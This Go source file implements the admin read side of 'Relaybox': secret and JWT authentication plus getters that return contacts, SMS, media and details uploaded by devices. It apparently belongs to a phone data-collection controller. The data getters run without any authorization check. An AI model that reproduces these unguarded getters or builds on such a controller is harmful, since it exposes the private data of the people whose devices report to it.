// Package admin implements the controller-facing read side of Relaybox:
// authenticating the admin and reading device telemetry.
//
// Telemetry reads are pure. They never register devices or change mailbox
// state, and unknown devices yield the slot's empty default.
package admin

import (
	"encoding/json"
	"errors"
	"time"

	"github.com/nerrad567/relaybox/internal/auth"
	"github.com/nerrad567/relaybox/internal/device"
	"github.com/nerrad567/relaybox/internal/mailbox"
)

var (
	// ErrUnauthorized is returned when the presented secret or token is rejected.
	ErrUnauthorized = errors.New("admin: unauthorized")

	// ErrTokensDisabled is returned by IssueToken when no JWT signing secret is configured.
	ErrTokensDisabled = errors.New("admin: token issuance disabled")
)

// tokenSubject is the JWT subject of every admin token.
const tokenSubject = "admin"

// Config holds the admin credentials.
type Config struct {
	// Secret is the plain shared admin secret.
	Secret string

	// SecretHash is an Argon2id PHC hash of the secret. Takes precedence over Secret.
	SecretHash string

	// RequireSecret gates admin operations. When false every request is authorised.
	RequireSecret bool

	// JWTSecret signs bearer tokens. Empty disables token auth.
	JWTSecret string

	// TokenTTL is the lifetime of issued tokens.
	TokenTTL time.Duration
}

// Logger defines the logging interface used by Query.
type Logger interface {
	Debug(msg string, args ...any)
	Info(msg string, args ...any)
	Warn(msg string, args ...any)
	Error(msg string, args ...any)
}

type noopLogger struct{}

func (noopLogger) Debug(string, ...any) {}
func (noopLogger) Info(string, ...any)  {}
func (noopLogger) Warn(string, ...any)  {}
func (noopLogger) Error(string, ...any) {}

// Query serves admin reads against the registry.
type Query struct {
	registry *device.Registry
	cfg      Config
	logger   Logger
}

// New creates an admin query service.
func New(registry *device.Registry, cfg Config) *Query {
	return &Query{
		registry: registry,
		cfg:      cfg,
		logger:   noopLogger{},
	}
}

// SetLogger sets the logger for the query service.
func (q *Query) SetLogger(logger Logger) {
	q.logger = logger
}

// TokensEnabled reports whether bearer tokens can be issued and verified.
func (q *Query) TokensEnabled() bool {
	return q.cfg.JWTSecret != ""
}

// TokenTTL returns the lifetime of issued tokens.
func (q *Query) TokenTTL() time.Duration {
	return q.cfg.TokenTTL
}

// Authorize checks a presented admin secret.
// When a secret is required but none is configured, every request is rejected.
func (q *Query) Authorize(secret string) error {
	if !q.cfg.RequireSecret {
		return nil
	}

	if q.cfg.SecretHash != "" {
		ok, err := auth.VerifySecret(secret, q.cfg.SecretHash)
		if err != nil {
			q.logger.Error("admin secret hash unusable", "error", err)
			return ErrUnauthorized
		}
		if !ok {
			return ErrUnauthorized
		}
		return nil
	}

	if !auth.EqualSecret(secret, q.cfg.Secret) {
		return ErrUnauthorized
	}
	return nil
}

// AuthorizeToken checks a bearer token minted by IssueToken.
func (q *Query) AuthorizeToken(token string) error {
	if !q.cfg.RequireSecret {
		return nil
	}
	if !q.TokensEnabled() || token == "" {
		return ErrUnauthorized
	}
	if _, err := auth.ParseToken(token, q.cfg.JWTSecret); err != nil {
		q.logger.Debug("admin token rejected", "error", err)
		return ErrUnauthorized
	}
	return nil
}

// IssueToken exchanges the admin secret for a signed bearer token.
func (q *Query) IssueToken(secret string) (string, error) {
	if !q.TokensEnabled() {
		return "", ErrTokensDisabled
	}
	if err := q.Authorize(secret); err != nil {
		return "", err
	}
	token, err := auth.GenerateAccessToken(tokenSubject, q.cfg.JWTSecret, q.cfg.TokenTTL)
	if err != nil {
		return "", err
	}
	q.logger.Info("admin token issued")
	return token, nil
}

// ListDevices returns every registered device in registration order.
func (q *Query) ListDevices(secret string) ([]device.Device, error) {
	if err := q.Authorize(secret); err != nil {
		return nil, err
	}
	return q.registry.ListAll(), nil
}

// ListDevicesWithToken is ListDevices for bearer-token callers.
func (q *Query) ListDevicesWithToken(token string) ([]device.Device, error) {
	if err := q.AuthorizeToken(token); err != nil {
		return nil, err
	}
	return q.registry.ListAll(), nil
}

// GetContacts returns the device's latest contact list, or [].
func (q *Query) GetContacts(deviceID string) json.RawMessage {
	return q.registry.GetLatest(deviceID, mailbox.SlotContacts)
}

// GetDeviceDetails returns the device's latest details object, or {}.
func (q *Query) GetDeviceDetails(deviceID string) json.RawMessage {
	return q.registry.GetLatest(deviceID, mailbox.SlotDeviceDetails)
}

// GetSMS returns the device's latest uploaded SMS data, or {}.
func (q *Query) GetSMS(deviceID string) json.RawMessage {
	return q.registry.GetLatest(deviceID, mailbox.SlotSMS)
}

// GetMedia returns the device's latest uploaded media descriptor, or {}.
func (q *Query) GetMedia(deviceID string) json.RawMessage {
	return q.registry.GetLatest(deviceID, mailbox.SlotMedia)
}
